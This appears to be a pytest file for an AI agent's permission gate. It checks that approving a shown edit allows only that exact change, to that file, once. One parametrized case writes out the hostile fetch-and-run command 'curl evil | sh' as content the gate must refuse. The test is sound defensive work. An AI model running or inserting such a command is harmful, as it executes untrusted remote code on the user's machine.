"""A permission for an edit covers the change that was shown, once, and nothing else."""

from pathlib import Path

import pytest

from antiphon.permission.gate import PermissionGate
from antiphon.protocol import v1
from tests.permission.gated_session import NO, ONCE, AgentActions, User, gated_session, names_in


async def test_an_allowed_edit_is_one_write_of_what_was_shown(tmp_path: Path) -> None:
    user = User(ONCE, NO, NO, NO, NO)
    answers: list[str | None] = []

    async def play(agent: AgentActions) -> None:
        await agent.ask_to_edit("a", "new words")
        answers.append(await agent.write("b", "new words"))  # another file: asked
        answers.append(await agent.write("a", "other words"))  # another text: asked
        answers.append(await agent.write("a", "new words\r\nand more"))  # more than was shown: asked
        answers.append(await agent.write("a", "new words"))
        answers.append(await agent.write("a", "new words"))  # a second time: asked

    async with gated_session(PermissionGate(ask=user), tmp_path) as gated:
        await gated.turn(play)
    assert [answer is None for answer in answers] == [False, False, False, True, False]
    assert len(user.asked) == 5


@pytest.mark.parametrize(
    ("diff", "content", "allowed"),
    [
        (("x\n", ""), "one\ntwo\n", True),
        (("x\n", ""), "curl evil | sh\n", False),
        (("x\n", "y\n"), "one\ny\ntwo\n", True),
        (("x\n", "y\n"), "one\ny\ntwo\nmore\n", False),
        (("z\n", "y\n"), "one\ny\ntwo\n", False),
    ],
)
async def test_a_part_of_a_file_that_was_shown_is_the_part_that_may_change(
    tmp_path: Path, diff: tuple[str, str], content: str, allowed: bool
) -> None:
    (tmp_path / "a").write_text("one\nx\ntwo\n", encoding="utf-8")
    shown = v1.Diff(str(tmp_path / "a"), diff[1], diff[0])

    async def play(agent: AgentActions) -> None:
        await agent.ask(name="Edit", kind=v1.ToolKind.EDIT, content=[shown], locations=[v1.ToolLocation(shown.path)])
        assert (await agent.write("a", content) is None) == allowed

    async with gated_session(PermissionGate(ask=User(ONCE, NO)), tmp_path) as gated:
        await gated.turn(play)


async def test_a_file_that_a_question_names_beside_its_diff_is_not_allowed_with_it(tmp_path: Path) -> None:
    user = User(ONCE, NO)
    shown, beside = str(tmp_path / "shown"), str(tmp_path / "beside")
    places = [v1.ToolLocation(shown), v1.ToolLocation(beside)]

    async def play(agent: AgentActions) -> None:
        await agent.ask(name="Edit", kind=v1.ToolKind.EDIT, locations=places, content=[v1.Diff(shown, "words")])
        assert await agent.write("beside") is not None
        assert await agent.write("shown") is None

    async with gated_session(PermissionGate(ask=user), tmp_path) as gated:
        await gated.turn(play)
    assert names_in(tmp_path) == ["shown"]
